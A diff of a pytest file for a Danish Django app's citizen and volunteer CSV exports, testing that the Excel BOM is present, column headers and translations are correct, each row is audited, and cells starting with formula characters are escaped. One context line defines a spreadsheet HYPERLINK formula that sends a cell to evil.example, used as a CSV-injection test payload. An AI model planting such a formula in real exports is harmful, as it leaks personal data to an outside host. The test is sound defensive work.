@@ -15,9 +15,10 @@ HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'
 
 
 def _rows(response) -> list[list[str]]:
-    body = response.content.decode("utf-8")
-    assert body.startswith("\ufeff"), "Excel needs the BOM to read æøå"
-    return list(csv.reader(io.StringIO(body[1:]), delimiter=";"))
+    """The sheet as Danish Excel shows it: UTF-8 only with the BOM, a column at each semicolon."""
+    assert response["Content-Type"].startswith("text/csv")
+    assert response.content.startswith("\ufeff".encode()), "Excel needs the BOM to read æøå"
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "＝"])
@@ -40,10 +41,10 @@ def test_a_citizens_formula_in_her_address_reaches_the_coordinator_as_text(clien
     )
     client.force_login(alice)
     rows = _rows(client.get(reverse("community:citizen-export")))
-    assert rows[0][:2] == ["Fornavn", "Efternavn"]
-    signe = next(r for r in rows if r[0] == "Signe")
-    assert signe[1] == "'@SUM(1)"
-    assert signe[2].startswith("'=HYPERLINK(")
+    header = rows[0]
+    signe = dict(zip(header, next(r for r in rows if "Signe" in r), strict=True))
+    assert signe["Efternavn"] == "'@SUM(1)"
+    assert signe["Adresse"].startswith("'=HYPERLINK(")
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
 
 
@@ -62,3 +63,54 @@ def test_the_volunteer_export_is_danish_excel_csv_with_labels_phone_and_no_formu
     assert mette[header.index("Vil gerne")] == "Besøgsven"
     assert mette[header.index("Sprog")] == "Dansk"
     assert mette[header.index("Status")] not in ("approved", "applied")
+
+
+def test_the_citizen_export_has_the_volunteer_exports_columns_and_audits_each_row(client):
+    from community.models import AuditEntry
+
+    alice = coordinator("social-omsorg", email="alice@example.dk")
+    signe = CitizenFactory(
+        first_name="Signe",
+        last_name="Ærø",
+        phone="75 12 34 56",
+        email="signe@example.dk",
+        core_tasks=[core_task("social-omsorg")],
+    )
+    client.force_login(alice)
+    header, *rows = _rows(client.get(reverse("community:citizen-export")))
+    assert header == [
+        "Nummer",
+        "Fornavn",
+        "Efternavn",
+        "E-mail",
+        "Telefon",
+        "Adresse",
+        "Lokalområde",
+        "Kerneopgaver",
+    ]
+    row = dict(zip(header, next(r for r in rows if r[1] == "Signe"), strict=True))
+    assert row["Nummer"] == str(signe.pk) and row["Efternavn"] == "Ærø"
+    assert (row["Telefon"], row["E-mail"]) == ("75 12 34 56", "signe@example.dk")
+    assert row["Kerneopgaver"] == core_task("social-omsorg").name
+    exported = AuditEntry.objects.filter(action="citizen.exported", purpose="export", actor=alice)
+    assert exported.filter(object_id=str(signe.pk)).count() == 1
+    assert exported.count() == len(rows)
+
+
+@pytest.mark.parametrize(
+    "url,expected",
+    [
+        ("community:citizen-export", ["Number", "First name", "Last name", "E-mail", "Phone"]),
+        ("volunteers:export", ["Number", "First name", "Last name", "E-mail", "Phone", "Status"]),
+    ],
+)
+def test_an_english_reader_gets_the_headers_in_english(client, url, expected):
+    from volunteers.tests.factories import VolunteerFactory
+
+    VolunteerFactory(user=UserFactory(first_name="Mette"))
+    CitizenFactory(first_name="Signe", core_tasks=[core_task("social-omsorg")])
+    client.force_login(coordinator("social-omsorg"))
+    client.post(reverse("set_language"), {"language": "en"})  # the language button
+    header, *rows = _rows(client.get(reverse(url)))
+    assert header[: len(expected)] == expected
+    assert rows
